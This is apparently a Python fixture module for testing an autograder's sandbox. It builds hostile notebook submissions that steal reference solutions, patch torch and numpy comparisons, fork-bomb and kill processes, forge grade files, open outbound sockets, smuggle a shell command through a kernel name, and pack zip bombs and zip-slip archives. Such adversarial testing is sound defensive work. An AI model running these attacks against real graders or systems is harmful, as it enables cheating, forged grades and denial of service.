"""The hostile suite: submissions of hw1_score that attack the grader, each with what it must get.

A case is a short notebook: `import`s, a correct `langevin_step` (3 points it must keep unless the case says
otherwise), a `tweedie_denoiser` (correct: 3 points; wrong, `y + sigma * score`: 0), and the attack. Every
other question of hw1 is left undefined, so a case costs a kernel start and two questions' checks, not a whole
notebook. `tests/test_hostile.py` grades them in one batch beside two controls and checks each outcome, the
batch's files and what the attacks left behind.

`needs` names the sandbox walls (`autograder.boundary.sandbox.Protections`) without which the attack would
succeed: where one is not in force the case's assertion is skipped, saying so. `unsafe_without` names walls
without which the case must not run at all (a fork bomb without a process limit, `kill(-1)` as root).
"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass, field

import nbformat

IMPORTS = "import os, sys, time\nimport torch\nimport numpy as np"
LANGEVIN = '''
def langevin_step(x, score, step_size, noise):
    return x + step_size * score + (2.0 * step_size) ** 0.5 * noise
'''
TWEEDIE = '''
def tweedie_denoiser(y, score, sigma):
    return y + sigma**2 * score
'''
WRONG = '''
def tweedie_denoiser(y, score, sigma):
    return y + sigma * score
'''
# A file-system search bounded in time, shared by the attacks that look for the reference or other students' work.
WALK = '''
def _walk(match, seconds=4.0):
    import os, time
    found, stop = [], time.monotonic() + seconds
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
        for name in dirs + files:
            if match(os.path.join(top, name)):
                found.append(os.path.join(top, name))
        if time.monotonic() > stop:
            break
    return found
'''


@dataclass(frozen=True)
class Case:
    name: str
    cells: list  # code cells after IMPORTS and LANGEVIN
    tweedie: float  # points tweedie_denoiser must get (3 or 0)
    langevin: float = 3.0  # points langevin_step must get (None: any)
    status: tuple = ()  # flags the status must have
    not_status: tuple = ("crashed", "grader-error")  # flags it must not have
    needs: tuple = ()  # walls without which the attack succeeds (assertion skipped)
    unsafe_without: tuple = ()  # walls without which the case is not graded at all
    raw: bytes | None = None  # the file itself, for cases that are not a notebook
    suffix: str = ".ipynb"
    kernelspec: dict = field(default_factory=dict)


def notebook(cells: list, kernelspec: dict | None = None) -> bytes:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(c.strip()) for c in [IMPORTS, LANGEVIN, *cells]]
    if kernelspec:
        nb.metadata["kernelspec"] = kernelspec
    return nbformat.writes(nb).encode()


def zipped(members: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def zip_bomb(size: int) -> bytes:
    """A zip of a few hundred KB whose notebook inflates to `size` bytes of spaces (valid JSON padding)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("hw1_score.ipynb", "w", force_zip64=True) as fh:
            chunk = b" " * 2**20
            for _ in range(size // len(chunk)):
                fh.write(chunk)
            fh.write(notebook([TWEEDIE]))
    return buf.getvalue()


def cases(port: int, out_hint: str) -> list:
    """Every case; `port`: a TCP server of the test's on 127.0.0.1 that no kernel may reach; `out_hint`: the
    batch's output folder, which attacks try to write into."""
    forged_row = "hostile_forged_row,3,3,3,3,3,3,3,3,24,24,ok,\\n"
    return [
        # -- the reference and the hidden checks -----------------------------------------------------------
        Case("disk_reference", [WALK, '''
import shutil, importlib
found = [p for p in _walk(lambda p: p.endswith("/course_core/score.py"))]
if found:
    shutil.copytree(os.path.dirname(found[0]), "cc_copy")
    sys.path.insert(0, os.getcwd())
    tweedie_denoiser = importlib.import_module("cc_copy.score").tweedie_denoiser
else:
''' + "\n".join("    " + line for line in WRONG.strip().splitlines())], tweedie=0, needs=("files",)),
        Case("hidden_checks_on_disk", [WALK, '''
import re
checks = _walk(lambda p: p.endswith("checks/hw1_score.py") or p.endswith("hw1_score/examples.py"))
source = "".join(open(p).read() for p in checks if os.access(p, os.R_OK))
if "sigma * sigma" in source or "sigma**2" in source:
    def tweedie_denoiser(y, score, sigma):
        return y + sigma**2 * score
else:
''' + "\n".join("    " + line for line in WRONG.strip().splitlines())], tweedie=0, needs=("files",)),
        Case("other_submissions_on_disk", [WALK, '''
import json as _json
def tweedie_denoiser(y, score, sigma):
    return y + sigma * score
for path in _walk(lambda p: p.endswith(".ipynb")):
    try:
        cells = _json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        src = "".join(cell.get("source", ""))
        if "def tweedie_denoiser" in src and "sigma**2" in src:
            exec(src)
'''], tweedie=0, needs=("files",)),
        Case("reference_in_sys_modules", ['''
def tweedie_denoiser(y, score, sigma):
    for name, module in list(sys.modules.items()):
        ref = getattr(module, "tweedie_denoiser", None)
        if callable(ref) and name != "__main__":
            return ref(y, score, sigma)
    return y + sigma * score
'''], tweedie=0),
        Case("reference_through_gc", ['''
import gc
def tweedie_denoiser(y, score, sigma):
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "tweedie_denoiser" and obj is not tweedie_denoiser:
            return obj(y, score, sigma)
    return y + sigma * score
'''], tweedie=0),
        # -- patching the libraries the checks would use --------------------------------------------------
        Case("patch_torch", [WRONG, '''
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
'''], tweedie=0),
        Case("patch_numpy", [WRONG, '''
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.abs = lambda x: np.zeros_like(x)
'''], tweedie=0),
        Case("patch_builtins", [WRONG, '''
import builtins
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.all = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
'''], tweedie=0, langevin=None),
        # -- forged return values -------------------------------------------------------------------------
        Case("tensor_subclass", ['''
class Liar(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def allclose(self, *a, **k): return True
def tweedie_denoiser(y, score, sigma):
    return (y + sigma * score).as_subclass(Liar)
'''], tweedie=0),
        Case("torch_function_override", ['''
class Sneaky(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def tweedie_denoiser(y, score, sigma):
    return (y + sigma * score).as_subclass(Sneaky)
'''], tweedie=0),
        Case("lying_eq_and_array", ['''
class Anything:
    def __init__(self, t): self.t = t
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.zeros(tuple(self.t.shape))
    def __getattr__(self, name): return getattr(self.t, name)
def tweedie_denoiser(y, score, sigma):
    return Anything(y)
'''], tweedie=0),
        Case("non_finite_outputs", ['''
def tweedie_denoiser(y, score, sigma):
    out = y + sigma**2 * score
    out.view(-1)[0] = float("nan")
    out.view(-1)[-1] = float("inf")
    return out
'''], tweedie=0),
        Case("wrong_dtype", ['''
def tweedie_denoiser(y, score, sigma):
    return (y.double() + sigma**2 * score.double())
'''], tweedie=0),
        Case("wrong_device", ['''
def tweedie_denoiser(y, score, sigma):
    return (y + sigma**2 * score).to("meta")
'''], tweedie=0),
        # -- taking the kernel or the grader down -----------------------------------------------------------
        Case("os_exit_in_function", ['''
def tweedie_denoiser(y, score, sigma):
    os._exit(0)
'''], tweedie=0, status=("kernel-died",)),
        Case("sys_exit_in_function", ['''
def tweedie_denoiser(y, score, sigma):
    sys.exit(0)
'''], tweedie=0),
        Case("raise_systemexit_in_function", ['''
def tweedie_denoiser(y, score, sigma):
    raise SystemExit("bye")
'''], tweedie=0),
        Case("loop_at_top_level", [TWEEDIE, "while True:\n    pass"], tweedie=3, status=("timeout",)),
        Case("loop_in_function", ['''
def tweedie_denoiser(y, score, sigma):
    while True:
        pass
'''], tweedie=0, status=("timeout",)),
        # 64 GiB asked for, none of it written: the address-space cap refuses it inside the kernel (a cell error)
        # without the seconds of zeroing gigabytes that once ran a loaded machine past the cell limit
        Case("memory_bomb", [TWEEDIE, "hog = [np.empty(2**30, dtype=np.uint8) for _ in range(64)]"], tweedie=3,
             status=("cell-errors",)),
        Case("fork_bomb", [TWEEDIE, '''
parent = os.getpid()
try:
    while True:
        os.fork()
except OSError:
    pass
if os.getpid() != parent:
    time.sleep(3600)
    os._exit(0)
'''], tweedie=3, langevin=None, unsafe_without=("user", "processes")),
        # kill(-1) spares the caller; with a uid and a pid namespace of its own there is no one else to reach
        Case("signal_everyone", [TWEEDIE, '''
import signal
for pid in [-1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''], tweedie=3, not_status=("crashed", "grader-error", "killed-grader"), unsafe_without=("user", "processes")),
        Case("detached_daemon", [TWEEDIE, f'''
daemon = """
import glob, time
while True:
    for path in glob.glob("/tmp/**/grades.csv", recursive=True) + glob.glob({out_hint!r} + "/**", recursive=True):
        try:
            open(path, "a").write({forged_row!r})
        except OSError:
            pass
    time.sleep(0.2)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", daemon, "dc-hostile-daemon"], {{}})
    os._exit(0)
time.sleep(0.5)
'''], tweedie=3, needs=("processes",)),
        # the grader (root) writes the kernel's folder only before the first launch: a symlink planted for a
        # restart (matplotlib's font cache copy, the temporary folder) leads nowhere
        Case("symlinks_for_the_restart", [TWEEDIE, f'''
import glob
canary = os.path.join(os.path.dirname({out_hint!r}), "canary.txt")
for path in glob.glob(".matplotlib/*.json") + [".matplotlib/fontlist-v390.json"]:
    try:
        os.remove(path)
    except OSError:
        pass
    os.symlink(canary, path)
os.rename(".tmp", ".tmp-old")
os.symlink(os.path.dirname(canary), ".tmp")
os._exit(0)
'''], tweedie=3, status=("kernel-died",)),
        # -- the results and the network -------------------------------------------------------------------
        Case("fake_results", [WRONG, WALK, f'''
import glob, json
forged = {{"finished": True, "assignment": "hw1_score", "submission": "hostile_fake_results", "questions": []}}
targets = set(glob.glob({out_hint!r} + "/**", recursive=True)) | set(glob.glob("/tmp/dc-batch-*/**", recursive=True))
for pid in os.listdir("/proc"):
    try:
        targets.update(a.decode() for a in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0") if a.endswith(b".json"))
    except (OSError, ValueError):
        pass
targets.update(_walk(lambda p: p.endswith("grades.csv") or "/dc-batch-" in p, seconds=2))
for path in targets:
    try:
        if path.endswith(".csv"):
            open(path, "a").write({forged_row!r})
        elif path.endswith(".json"):
            json.dump(forged, open(path, "w"))
    except OSError:
        pass
'''], tweedie=0, needs=("files", "user")),
        Case("open_socket", [TWEEDIE, f'''
import socket
for address in [("127.0.0.1", {port}), ("10.0.2.2", {port}), ("pypi.org", 443)]:
    try:
        with socket.create_connection(address, timeout=2) as s:
            s.sendall(b"leak from a student kernel")
    except OSError:
        pass
'''], tweedie=3, needs=("network",)),
        # -- output and size --------------------------------------------------------------------------------
        Case("print_100mb", [TWEEDIE, 'print("x" * 100_000_000)'], tweedie=3),
        Case("bogus_kernel_name", [TWEEDIE], tweedie=3,
             kernelspec={"name": "../../../bin/sh -c 'touch /tmp/pwned'", "display_name": "evil", "language": "sh"}),
        # -- files that are not notebooks ------------------------------------------------------------------
        Case("not_json", [], tweedie=0, langevin=0, status=("invalid",), raw=b"{ this is not json \x00\xff"),
        Case("corrupt_zip", [], tweedie=0, langevin=0, status=("invalid",), suffix=".zip",
             raw=b"PK\x03\x04" + b"\x13" * 5000),
        Case("zip_bomb", [], tweedie=0, langevin=0, status=("invalid",), suffix=".zip", raw=b"bomb"),
        Case("zip_slip", [], tweedie=3, suffix=".zip", raw=b"slip"),
        Case("notebook_50mb", [TWEEDIE], tweedie=3, raw=b"big"),
    ]


def build(case: Case) -> bytes:
    """The submission file's bytes."""
    if case.raw == b"bomb":
        return zip_bomb(300 * 2**20)
    if case.raw == b"slip":
        nb = notebook(case.cells or [TWEEDIE])
        return zipped({"../../hostile_slip_escaped.ipynb": nb, "/tmp/hostile_slip_absolute.txt": b"x",
                       "sub/../../../hostile_slip.txt": b"x", "hw1_score.ipynb": nb})
    if case.raw == b"big":
        nb = json.loads(notebook(case.cells))
        blob = "z" * 1000
        nb["cells"][-1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": [blob] * 50_000}]
        return json.dumps(nb).encode()
    if case.raw is not None:
        return case.raw
    return notebook(case.cells, case.kernelspec)
